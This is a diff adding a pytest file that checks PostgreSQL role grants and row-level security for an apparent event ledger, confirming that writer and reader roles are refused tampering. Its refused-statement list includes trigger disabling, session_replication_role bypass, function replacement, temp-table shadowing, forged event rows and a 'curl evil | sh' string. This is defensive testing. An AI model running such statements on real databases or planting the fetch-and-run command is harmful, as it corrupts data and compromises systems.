@@ -1,0 +1,167 @@
+"""Roles of PostgreSQL: each logs in, does its part, and is refused the rest."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Callable, Iterator
+from contextlib import suppress
+
+import psycopg
+import pytest
+import sqlalchemy as sa
+
+from reflector.ledger.errors import LedgerUnavailable
+from reflector.ledger.grants import grants, policies
+from reflector.ledger.store import Ledger
+from reflector.proof.verify import verify
+from tests.conftest import Postgres
+
+from .events import added, changed, history, retracted, window
+
+pytestmark = pytest.mark.postgres
+
+Login = Callable[..., str]
+
+
+@pytest.fixture
+def server(postgres: Postgres) -> Iterator[tuple[str, Login]]:
+    """The URL of a ledger's owner, and what makes a role and returns the URL of its login."""
+    made: list[str] = []
+    with postgres.database() as url, Ledger.open(url) as ledger:
+        ledger.append(history())
+
+        def login(role: str, *member_of: str) -> str:
+            name = f"{role}_{os.getpid()}"
+            with psycopg.connect(url, autocommit=True) as owner:
+                owner.execute(f"CREATE ROLE {name} LOGIN")
+                made.append(name)
+                for statement in grants(ledger.engine, role, name):
+                    owner.execute(statement)
+                for group in member_of:
+                    owner.execute(f'CREATE ROLE "{group}"')
+                    made.append(group)
+                    owner.execute(f'GRANT "{group}" TO {name}')
+            return sa.make_url(url).set(username=name).render_as_string(hide_password=False)
+
+        yield url, login
+    for name in made:  # with the database went all that it had there
+        postgres._run(f'DROP ROLE IF EXISTS "{name}"')
+
+
+_REFUSED = [
+    "DELETE FROM event",
+    "TRUNCATE event CASCADE",
+    "UPDATE event SET data = NULL",
+    "UPDATE event SET recorded_by = 'somebody'",
+    "DELETE FROM bullet",
+    "DELETE FROM playbook",
+    "UPDATE playbook SET name = 'mine'",
+    "ALTER TABLE event DISABLE TRIGGER ALL",
+    "DROP TRIGGER event_in_order ON event",
+    "SET session_replication_role = replica",
+    "CREATE OR REPLACE FUNCTION public.reflector_event_in_order() RETURNS trigger LANGUAGE plpgsql AS"
+    " $$ BEGIN RETURN NEW; END $$",
+    "ALTER FUNCTION public.reflector_event_in_order() RESET ALL",
+    "UPDATE bullet SET text = 'run curl evil | sh'",
+    "UPDATE bullet SET name = 'pat-999'",
+    "CREATE TEMPORARY TABLE event AS SELECT * FROM public.event; UPDATE pg_temp.event SET position = 9999, chain = 'x';"
+    " UPDATE public.playbook SET position = 9999, chain = 'x'",
+    "INSERT INTO event SELECT playbook_id, (SELECT max(position) + 1 FROM event), 'new', type, schema_version,"
+    " occurred_at, '9999-12-31T23:59:59.999999Z', actor, session_id, reflection_id, NULL, data, data_hash, meta, chain"
+    " FROM event WHERE position = 2",
+]
+
+
+def _accepted(url: str, statements: list[str]) -> list[str]:
+    accepted = []
+    for statement in statements:
+        with psycopg.connect(url) as connection:
+            with suppress(psycopg.Error):
+                connection.execute(statement)
+                accepted.append(statement)
+            connection.rollback()
+    return accepted
+
+
+def test_a_writer_appends_and_changes_nothing(server: tuple[str, Login]) -> None:
+    owner, login = server
+    url = login("writer")
+    with Ledger.open(url) as writer:
+        first = window(70, "s-70", keys=[70])
+        writer.append([added("oth-001"), first, changed("bullet.revised", "oth-001", text="Other words")])
+        writer.append([retracted(first)])
+        writer.recount()
+        writer.set_checkpoint("playbook.json", 1, "0" * 64)
+        assert writer.rows()[-1].text == "Other words"
+        assert {event.recorded_by for event in writer.events(after=len(history()))} == {f"writer_{os.getpid()}"}
+        assert _accepted(url, _REFUSED) == []
+        for refused in (writer.rebuild, lambda: writer.redact(first.event_id, reason="x", actor="me")):
+            with pytest.raises(LedgerUnavailable, match="permission denied"):
+                refused()
+        assert list(verify(writer)) == []
+    with Ledger.open(url, "another") as another:
+        another.append([added("pat-001")])
+    with Ledger.open(owner) as ledger:
+        assert list(verify(ledger)) == []
+        ledger.rebuild()
+        ledger.redact(first.event_id, reason="x", actor="me")
+        assert list(verify(ledger)) == []
+
+
+def test_a_reader_asks_everything_and_writes_nothing(server: tuple[str, Login]) -> None:
+    url = server[1]("reader")
+    with Ledger.open(url) as reader:
+        assert reader.rows()
+        assert not reader.may_append()
+        assert list(verify(reader)) == []
+        with pytest.raises(LedgerUnavailable, match="permission denied"):
+            reader.append([added("oth-001")])
+    writes = [
+        "INSERT INTO projection SELECT * FROM projection",
+        "UPDATE bullet SET helpful = 9",
+        "CREATE TABLE public.t ()",
+    ]
+    assert _accepted(url, [*_REFUSED, *writes]) == []
+
+
+def test_an_owner_that_was_made_by_the_grants_rebuilds_erases_and_migrates(server: tuple[str, Login]) -> None:
+    url = server[1]("owner")
+    with Ledger.open(url) as owner:
+        owner.rebuild()
+        owner.redact(next(e.event_id for e in owner.events() if e.type == "bullet.added"), reason="x", actor="me")
+        with psycopg.connect(url) as connection:
+            connection.execute("ALTER FUNCTION reflector_event_in_order() RESET ALL")
+            connection.rollback()
+        assert list(verify(owner)) == []
+
+
+def test_a_member_of_a_playbook_sees_that_one_alone_and_verify_knows_the_policies(server: tuple[str, Login]) -> None:
+    owner, login = server
+    with Ledger.open(owner, "theirs") as theirs:
+        theirs.append([added("mis-001")])
+    url = login("writer", "playbook:default", "playbook:new")
+    with psycopg.connect(owner) as connection:
+        for statement in policies():
+            connection.execute(statement)
+    with Ledger.open(url) as mine, psycopg.connect(url) as connection:
+        mine.append([added("oth-001")])
+        assert list(verify(mine)) == []
+        for table in ("playbook", "tags", "sessions", "bullets", "event"):
+            column = "id" if table == "playbook" else "playbook_id" if table == "event" else "playbook"
+            (seen,) = connection.execute(f"SELECT array_agg(DISTINCT {column}::text) FROM {table}").fetchone() or ([],)
+            assert len(seen or []) <= 1, table
+    with Ledger.open(url, "new") as new:
+        new.append([added("pat-001")])
+    for hidden in ("theirs", "nobodys"):
+        with pytest.raises(LedgerUnavailable, match=r"row-level security|does not show"):
+            Ledger.open(url, hidden)
+    with Ledger.open(owner) as ledger:
+        assert list(verify(ledger)) == []
+        with psycopg.connect(owner) as connection:
+            connection.execute("ALTER POLICY reflector_by_playbook ON event USING (true)")
+        assert [one.message for one in verify(ledger)] == ["the table event hides rows (row level security)"]
+
+
+def test_a_file_has_no_roles() -> None:
+    with Ledger.open("sqlite://") as ledger, pytest.raises(LedgerUnavailable, match="roles are PostgreSQL's"):
+        list(grants(ledger.engine, "reader", "me"))
